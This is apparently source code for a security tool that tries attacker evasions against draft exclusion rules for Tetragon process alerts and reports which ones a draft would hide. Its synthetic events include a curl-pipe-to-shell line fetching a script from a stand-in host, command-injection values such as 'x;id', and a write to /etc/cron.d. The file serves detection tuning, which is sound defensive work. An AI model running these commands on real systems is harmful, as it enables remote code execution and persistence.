"""What an attacker could hide under a draft, found by trying evasions.

Each evasion is an attack made from an event that the draft hides. One that the draft hides as well works, and is
reported with its command line.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from typing import Any

import orjson

from tetratui.core.amounts import format_count
from tetratui.core.exclusion import Chars, Exclusion, Pattern
from tetratui.core.lineage.programs import is_interpreter
from tetratui.core.noise.columns import Columns
from tetratui.core.noise.matching import Matcher
from tetratui.core.table import build_table
from tetratui.core.tuning.safety.attack_samples import AttackSample, InContext, example, fit_container, in_context
from tetratui.core.tuning.safety.risky_binaries import dangerous_alone, needs_reason

Body = dict[str, Any]
ATTACK = '-c "curl -s http://198.51.100.66/x.sh | sh"'
"""The arguments of the attack."""


@dataclass(frozen=True, slots=True)
class Evasion:
    """One way for an attack to look like the noise."""

    name: str
    sentence: str
    command: str
    """The command line that was tried, with its parent where that was changed."""
    passes: bool
    """Whether the draft hides it."""


@dataclass(frozen=True, slots=True)
class Risk:
    """What was tried against a draft."""

    evasions: tuple[Evasion, ...]
    context: InContext
    needs_reason: str | None
    """What a person must answer for in writing, or None."""

    @property
    def passing(self) -> tuple[Evasion, ...]:
        """The evasions that the draft hides."""
        return tuple(evasion for evasion in self.evasions if evasion.passes)

    @property
    def sentence(self) -> str:
        """The risk in one sentence."""
        hidden = self.context.tried - self.context.visible
        text = f"{hidden} of {self.context.tried} test attacks run from here would be hidden"
        if not self.passing:
            return f"{text}; none of {format_count(len(self.evasions), 'evasion')} works"
        names = ", ".join(evasion.name for evasion in self.passing)
        return f"{text}; evasions that work: {names} (for example: {self.passing[0].command})"


def risk(
    exclusions: Sequence[Exclusion], scope: str = "", attack_samples: Sequence[AttackSample] | None = None
) -> Risk:
    """Try the evasions and the attack samples in context against these exclusions."""
    tried = [evasion for exclusion in exclusions for evasion in _evasions(exclusion)]
    matcher = Matcher(Columns.of(build_table([line for _, _, line in tried])))
    hidden = matcher.any(exclusions).tolist()
    evasions: dict[str, Evasion] = {}
    for (name, sentence, line), passes in zip(tried, hidden, strict=True):
        # Of several exclusions, the one that lets an evasion work counts.
        if name not in evasions or (passes and not evasions[name].passes):
            evasions[name] = Evasion(name, sentence, _command(orjson.loads(line)), passes)
    context = in_context(exclusions, attack_samples)
    return Risk(tuple(evasions.values()), context, _needs_reason(exclusions, scope, context))


def _needs_reason(exclusions: Sequence[Exclusion], scope: str, context: InContext) -> str | None:
    hidden = context.tried - context.visible
    if scope == "namespace":
        return next(filter(None, map(needs_reason, exclusions)), None)
    if scope == "binary":
        risks = (dangerous_alone(pattern.display_text) for exclusion in exclusions for pattern in exclusion.binary)
        return next(filter(None, risks), None)
    if scope == "subtree" and hidden:
        return f"a subtree: it would hide {hidden} of {context.tried} attack commands started by that parent"
    binaries = (pattern.display_text for exclusion in exclusions for pattern in exclusion.binary)
    if scope == "caller" and hidden and any(map(is_interpreter, binaries)):
        return f"an interpreter under this caller: it would hide {hidden} of {context.tried} attack commands"
    return None


def _evasions(exclusion: Exclusion) -> Iterable[tuple[str, str, bytes]]:
    """Yield name, sentence and line of each evasion; the changes take the process and its parent."""
    if exclusion.probe:
        yield "the probe's own command line", "whatever is started as a probe is", _event(exclusion, _flag)
    comment = f'{ATTACK.removesuffix(chr(34))} # {_script(exclusion)}"'
    plain = _event(exclusion, lambda _, __: None)
    for name, sentence, change in (
        ("comment", "append a shell comment that names the script", lambda p, _: _append(p, comment)),
        ("writable folder", "the same name in a folder where anybody may write", lambda p, _: _move(p)),
        ("suffix", "a longer name that begins the same", lambda p, _: _lengthen(p)),
        ("same parent", "an attack started by that parent", _attack),
        ("extra arguments", "more arguments after the usual ones", lambda p, _: _append(p, "--output /etc/cron.d/x")),
        ("false parent", "a parent with the same arguments from a writable folder", lambda _, q: _move(q)),
        ("varying part", "another text where the template allows any", lambda p, q: _vary(exclusion, p, q)),
        ("another caller", "the same command started from a web server", lambda _, q: _replace_caller(q)),
        ("longer script path", "a script whose path ends the same", _prefix_paths),
    ):
        line = _event(exclusion, change)
        # A template without a varying part, or a command without a path, has nothing to change.
        if line != plain:
            yield name, sentence, line


def _event(exclusion: Exclusion, change: Callable[[Body, Body], None]) -> bytes:
    process: Body = {"exec_id": "", "pid": 4711, "uid": 33, "cwd": "/tmp", "flags": "execve clone"}  # noqa: S108
    process = fit_container(process, exclusion)
    process |= {"binary": _first(exclusion.binary, "/usr/bin/true"), "arguments": _first(exclusion.arguments, "")}
    parent = {"exec_id": "", "pid": 4000, "uid": 33, "flags": "execve clone"}
    parent |= {"binary": _first(exclusion.parent_binary, "/usr/bin/bash")}
    parent |= {"arguments": _first(exclusion.parent_arguments, "")}
    change(process, parent)
    body: Body = {"process": process, "parent": parent}
    if exclusion.policies or exclusion.functions:
        body["policy_name"] = next(iter(exclusion.policies), "")
        body["function_name"] = next(iter(exclusion.functions), "")
    return orjson.dumps({exclusion.kinds[0].json_key: body, "node_name": "server01", "time": "2026-01-01T00:00:00Z"})


def _first(patterns: Sequence[Pattern], default: str) -> str:
    return example(patterns[0]) if patterns else default


def _script(exclusion: Exclusion) -> str:
    """Return a path that the exclusion compares, preferably the script that runs."""
    texts = (*exclusion.parent_arguments, *exclusion.arguments, *exclusion.parent_binary, *exclusion.binary)
    return next((text for text in map(example, texts) if "/" in text), "backup.sh")


def _flag(process: Body, _: Body) -> None:
    """Make the process one that Tetragon takes for a probe, as it does with any process of that command line."""
    pod = process.setdefault("pod", {"namespace": "default", "name": "pod-0"})
    process["pod"] = {**pod, "container": {**pod.get("container", {}), "maybe_exec_probe": True}}


def _lengthen(body: Body) -> None:
    body["binary"] += ".bak"


def _append(process: Body, text: str) -> None:
    process["arguments"] = f"{process['arguments']} {text}".strip()


def _move(body: Body) -> None:
    body["binary"] = "/tmp/" + body["binary"].rsplit("/", 1)[-1]  # noqa: S108


def _attack(process: Body, _: Body) -> None:
    process |= {"binary": "/usr/bin/bash", "arguments": ATTACK}


def _replace_caller(parent: Body) -> None:
    parent |= {"binary": "/usr/sbin/php-fpm8.2", "arguments": "--nodaemonize"}


def _prefix_paths(process: Body, parent: Body) -> None:
    for body in (process, parent):
        body["arguments"] = body["arguments"].replace("/", "/tmp/x/", 1)  # noqa: S108


def _vary(exclusion: Exclusion, process: Body, parent: Body) -> None:
    for body, patterns in ((process, exclusion.arguments), (parent, exclusion.parent_arguments)):
        if patterns:
            body["arguments"] = _hostile(patterns[0])


def _hostile(pattern: Pattern) -> str:
    """Write a text of the pattern with an attacker's command in each part that takes any word."""
    texts = []
    for part in pattern.parts:
        if isinstance(part, Chars) and part.chars.startswith("^"):
            texts.append("x;id" if "/" in part.chars else "/tmp/x;id")  # noqa: S108
        else:
            texts.append(example(Pattern((part,))))
    return "".join(texts)


def _command(event: Body) -> str:
    body = event[next(iter(event))]
    process, parent = body["process"], body["parent"]
    caller = f"{parent['binary']} {parent['arguments']}".strip()
    return f"{process['binary']} {process['arguments']}".strip() + f", started by {caller}"
